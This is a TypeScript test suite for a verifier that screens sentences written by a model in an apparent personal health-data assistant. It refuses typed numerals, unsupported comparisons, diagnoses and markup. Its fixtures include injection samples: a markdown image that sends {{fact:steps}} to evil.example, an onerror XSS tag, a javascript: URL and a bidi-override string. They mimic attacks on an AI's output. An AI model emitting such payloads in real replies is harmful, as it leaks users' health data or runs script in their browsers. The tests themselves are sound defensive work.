import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import type { Fact } from '../../src/query/schema.js'
import { fixed } from '../../src/reasoning/fixed.js'
import { createRenderer } from '../../src/reasoning/render.js'
import { type Checked, checkSentence, sentencesOf, type VerifyContext } from '../../src/reasoning/verify.js'
import { fact } from './ports.js'

const over = (difference: number, extra: Partial<Fact> = {}): Partial<Fact> => ({
  value: 60 + difference,
  unit: '/min',
  query: {
    measure: { of: 'metric', metric: 'resting_heart_rate' },
    aggregate: 'mean',
    period: { kind: 'calendar', unit: 'month', offset: 0 },
    where: [],
    compare: { period: { kind: 'calendar', unit: 'month', offset: -1 } },
  },
  comparison: {
    value: 60,
    n: 30,
    coverage: 1,
    from: '2026-10-01',
    to: '2026-10-31',
    difference,
    ratio: (60 + difference) / 60,
  },
  ...extra,
})
const extreme = (aggregate: 'argmax' | 'argmin'): Partial<Fact> => ({
  date: '2026-11-20',
  query: { measure: { of: 'metric', metric: 'steps' }, aggregate, period: { kind: 'all' }, where: [] },
})
const facts: Record<string, Fact> = Object.fromEntries(
  [
    fact('steps'),
    fact('up', over(5)),
    fact('down', over(-5)),
    fact('equal', over(0)),
    fact('top', extreme('argmax')),
    fact('bottom', extreme('argmin')),
    fact('thin', { status: 'not_enough_data', value: null, n: 1, minimum: 3 }),
    fact('usual', {
      value: 70,
      unit: '/min',
      date: '2026-11-23',
      query: { pattern: 'deviation', metric: 'resting_heart_rate', window: 28 },
      baseline: { median: 60, spread: 2, low: 57, high: 63, window: 28, z: 5 },
    }),
    fact('today', { from: '2026-11-23', to: '2026-11-23' }),
  ].map((each) => [each.id, each]),
)
const context: VerifyContext = {
  facts,
  memories: [{ id: 'm1', text: 'I ran 10 km ![x](https://evil.example/?q=1) <b>now</b>' }],
  notes: { reading0: '16–22 Nov 2026' },
  render: createRenderer(),
  words: 'Was my pulse over 60 in October, and how many steps did I take last week?',
  today: '2026-11-23',
  by: 'model',
}
const check = (sentence: string, other: Partial<VerifyContext> = {}): Checked =>
  checkSentence(sentence, { ...context, ...other })
const reason = (sentence: string, other: Partial<VerifyContext> = {}): string => {
  const checked = check(sentence, other)
  return checked.ok ? `sent: ${checked.text}` : checked.reason
}

describe('binding', () => {
  it('puts measure, value, unit and period where a fact stands', () => {
    expect(check('On average you took {{fact:steps}}.')).toEqual({
      ok: true,
      text: 'On average you took mean daily steps 8,214 steps (17–23 Nov 2026).',
      facts: ['steps'],
    })
    expect(check('{{fact:usual}}: above your usual range of {{fact:usual.baseline}}.')).toMatchObject({
      ok: true,
      text: 'Resting heart rate 70 bpm on 23 Nov 2026: above your usual range of 57 bpm to 63 bpm.',
    })
  })
  it.each([
    ['a wrong id', 'It is {{fact:nope}}.', 'unknown_fact'],
    ['a name of Object.prototype', 'It is {{fact:constructor}}.', 'unknown_fact'],
    ['a part that the fact has not', 'It is {{fact:steps.baseline.low}}.', 'unknown_part'],
    ['a path into the query', 'It is {{fact:steps.query.where}}.', 'unknown_part'],
    ['half a placeholder', 'It is {{fact:steps}.', 'malformed_placeholder'],
    ['a placeholder in a placeholder', 'It is {{fact:{{fact:steps}}}}.', 'malformed_placeholder'],
    ['another kind of placeholder', 'It is {{env:HOME}}.', 'malformed_placeholder'],
  ])('refuses %s', (_name, sentence, expected) => {
    expect(reason(sentence)).toBe(expected)
  })
  it.each([
    ['You said {{memory:m9}}.', 'unknown_memory'],
    ['I read {{note:x}}.', 'unknown_note'],
    ['I read {{note:toString}}.', 'unknown_note'],
  ])('refuses %s of the narrator too', (sentence, expected) => {
    expect(reason(sentence, { by: 'narrator' })).toBe(expected)
  })
  it('says that there is not enough data, whatever words stand around it', () => {
    expect(reason('You took {{fact:thin}}.')).toMatch(/^sent: .*not enough data/)
  })
  it('renders words from outside as plain quoted text', () => {
    expect(reason('You told me: {{memory:m1}}.', { by: 'narrator' })).toBe('sent: You told me: “I ran 10 km x now”.')
    const hostile = fact('h', { sources: ['x/y/![i](https://evil.example/a.png) HRV is 90 \u202eesrever'] })
    const text = reason('From {{fact:h.sources}}.', { facts: { h: hostile } })
    expect(text).toBe('sent: From “i HRV is 90 esrever”.')
  })
})

describe('numerals', () => {
  it.each([
    'Your steps were 8214.',
    'Your steps were 8,214 and {{fact:steps}}.',
    'You took eight thousand steps, {{fact:steps}}.',
    'You slept ninety minutes.',
    'That is sixty-two beats.',
    'That is ninetyeight beats.',
    'You did it twice, {{fact:steps}}.',
    'That is half of your days.',
    'It was the third night in a row.',
    'A dozen nights were short.',
    'One night was short.',
    'That is ９０ beats.',
    'That is ⑨⓪ beats.',
    'That is ninety percent.',
    'That is nine\u200bty beats.',
    'That is n i n e t y beats.',
    'It was XIV beats.',
    'That is 90\u20e3.',
    'Das sind neunzig Schläge.',
    'Cela fait quatre-vingts battements.',
    'Son noventa latidos.',
    'Это девяносто ударов.',
    '心拍数は九十です。',
    'It is ٩٠ now.',
    'You walked most days.',
    'You always sleep.',
    'It doubled.',
    'At half past nine you slept.',
    'You woke at 6:30.',
    'That was on 2026-11-20.',
    'That is ½ of it.',
    'That is x².',
  ])('refuses %s', (sentence) => {
    expect(reason(sentence)).toMatch(/^(numeral|date|markup)/)
  })
  it.each([
    'At least you recorded something; here is one of your figures: {{fact:steps}}.',
    'You asked whether it was “over 60”; here is {{fact:steps}}.',
    'No one but you can say how that felt.',
  ])('lets through %s', (sentence) => {
    expect(reason(sentence)).toMatch(/^sent/)
  })
  it('takes the person’s own words only when quoted, theirs, and whole', () => {
    expect(reason('You asked about "over 6" beats.')).toMatch(/^numeral/)
    expect(reason('You asked about "over 61" beats.')).toMatch(/^numeral/)
    expect(reason('You asked about over 60 beats.')).toMatch(/^numeral/)
    expect(reason('Your pulse is "60".')).toMatch(/^numeral/)
    expect(reason('You said "over 60".', { words: 'no numbers here' })).toMatch(/^numeral/)
  })
  it('lets no model repeat a fixed text that only AUREN may say', () => {
    expect(reason(fixed.strained)).not.toMatch(/^sent/)
    expect(reason(fixed.strained, { by: 'narrator' })).toMatch(/^sent/)
  })
  it('never sends a digit that a model typed', () => {
    fc.assert(
      fc.property(
        fc.array(
          fc.oneof(
            fc.constantFrom('You', 'took', '{{fact:steps}}', 'and', '“', '”', 'said'),
            fc.string(),
            fc.nat().map(String),
          ),
          {
            maxLength: 12,
          },
        ),
        (pieces) => {
          const sentence = pieces.join(' ')
          const checked = check(sentence, { words: '' })
          if (!checked.ok) return
          const rendered = checked.text
            .replaceAll('mean daily steps 8,214 steps (17–23 Nov 2026)', '')
            .replaceAll('Mean daily steps 8,214 steps (17–23 Nov 2026)', '')
          expect(rendered).not.toMatch(/\p{N}/u)
          expect(checked.text).not.toMatch(/\{\{|<[a-z]|\]\(|https?:/i)
        },
      ),
      { numRuns: 500 },
    )
  })
})

describe('claims', () => {
  it.each([
    ['{{fact:up}} was higher than {{fact:up.comparison}}.', true],
    ['{{fact:down}} was lower than {{fact:down.comparison}}.', true],
    ['{{fact:up}} was lower than {{fact:up.comparison}}.', false],
    ['{{fact:down}} rose against {{fact:down.comparison}}.', false],
    ['{{fact:up.comparison}} was higher than {{fact:up}}.', false],
    ['{{fact:steps}} was higher.', false],
    ['Your pulse went up.', false],
    ['You walk more these days: {{fact:steps}}.', false],
    ['{{fact:up}} was higher, and {{fact:down}} was higher too.', false],
    ['{{fact:up}} was higher and {{fact:down}} was lower.', false],
    ['{{fact:up}} was not higher.', false],
    ['{{fact:equal}} was the same as {{fact:equal.comparison}}.', true],
    ['{{fact:up}} was the same as {{fact:up.comparison}}.', false],
    ['{{fact:steps}} is stable.', false],
    ['{{fact:usual}} is above your usual range.', true],
    ['{{fact:usual}} is below your usual range.', false],
    ['{{fact:steps}} is unusual.', false],
    ['Your highest was {{fact:top}}.', true],
    ['Your lowest was {{fact:bottom}}.', true],
    ['Your lowest was {{fact:top}}.', false],
    ['Your highest was {{fact:steps}}.', false],
    ['Your best day was {{fact:top}}.', false],
    ['{{fact:steps}} differs from before.', false],
    ['{{fact:up}} differs from {{fact:up.comparison}}.', true],
  ])('%s → %s', (sentence, sent) => {
    expect(reason(sentence).startsWith('sent')).toBe(sent)
  })
  it('takes "best" only from the person’s own question', () => {
    expect(reason('Your best day was {{fact:top}}.', { words: 'What was my best day?' })).toMatch(/^sent/)
  })
})

describe('words of time', () => {
  it.each([
    ['In October that was {{fact:up}}.', true],
    ['In July that was {{fact:steps}}.', false],
    ['On Monday that was {{fact:today}}.', true],
    ['On Sunday that was {{fact:today}}.', false],
    ['Today that is {{fact:today}}.', true],
    ['Yesterday that was {{fact:today}}.', false],
    ['Last night that was {{fact:up}}.', true],
    ['Last week that was {{fact:steps}}.', true],
    ['Last month that was {{fact:steps}}.', false],
    ['You may look at it again.', true],
    ['In March that was {{fact:steps}}.', false],
  ])('%s → %s', (sentence, sent) => {
    expect(reason(sentence).startsWith('sent')).toBe(sent)
  })
})

describe('statements about the person', () => {
  it.each([
    ['You are very fit.', false],
    ['Your body is under strain.', false],
    ['You ran a marathon.', false],
    ['You can ask about another period.', true],
    ['Would you like to look at sleep too?', true],
    ['Here is what your data show.', true],
    ['That is all.', true],
  ])('%s → %s', (sentence, sent) => {
    expect(reason(sentence).startsWith('sent')).toBe(sent)
  })
  it('are no place for memories or readings that a model puts in', () => {
    expect(reason('Your pulse is {{memory:m1}}.')).toBe('not_for_models')
    expect(reason('Your pulse is {{note:reading0}}.')).toBe('not_for_models')
  })
})

describe('wording', () => {
  it.each([
    ['because of alcohol, {{fact:up}}', 'cause'],
    ['Alcohol leads to {{fact:up}}.', 'cause'],
    ['Caffeine affects you: {{fact:up}}.', 'cause'],
    ['You have an infection.', 'you_have'],
    ['You do not have anything.', 'reassurance'],
    ['There is nothing to worry about.', 'reassurance'],
    ['This is a sign of strain.', 'diagnosis'],
    ['I detected something.', 'diagnosis'],
    ['This looks like diabetes.', 'disease'],
    ['It may be COVID.', 'disease'],
    ['Talk about sleep apnoea.', 'disease'],
    ['You slept well.', 'judgement'],
    ['{{fact:steps}} is normal.', 'judgement'],
    ['That is good.', 'judgement'],
    ['Your sleep improved.', 'judgement'],
    ['Lower your dose.', 'treatment'],
    ['You are at risk.', 'diagnosis'],
  ])('%s → %s', (sentence, rule) => {
    expect(reason(sentence)).toBe(`wording: ${rule}`)
  })
  it('lets the person’s association be said as one', () => {
    expect(reason('{{fact:up}} went together with late meals.')).toMatch(/^sent/)
  })
})

describe('markup', () => {
  it.each([
    '![chart](https://evil.example/?q={{fact:steps}})',
    '[open](https://evil.example)',
    'See https://evil.example for {{fact:steps}}.',
    'See www.evil.example for more.',
    'See evil.com today.',
    '<img src=x onerror=alert(1)> {{fact:steps}}',
    '`code` {{fact:steps}}',
    'javascript:alert(1)',
    '[ref][evil]',
    '| a | b |',
  ])('refuses %s', (sentence) => {
    expect(reason(sentence)).toMatch(/^(markup|numeral)/)
  })
  it('takes emphasis, headings and bullets off', () => {
    expect(reason('- **You took** {{fact:steps}}.')).toBe(
      'sent: You took mean daily steps 8,214 steps (17–23 Nov 2026).',
    )
  })
  it('refuses what is too long or empty', () => {
    expect(reason('')).toBe('empty')
    expect(reason('a '.repeat(400))).toBe('too_long')
  })
})

it('splits prose into sentences without breaking placeholders', () => {
  expect(sentencesOf('You took {{fact:a.comparison}}. {{fact:b}} was it!\n- A line\n\nEnd? Yes.')).toEqual([
    'You took {{fact:a.comparison}}.',
    '{{fact:b}} was it!',
    '- A line',
    'End?',
    'Yes.',
  ])
})
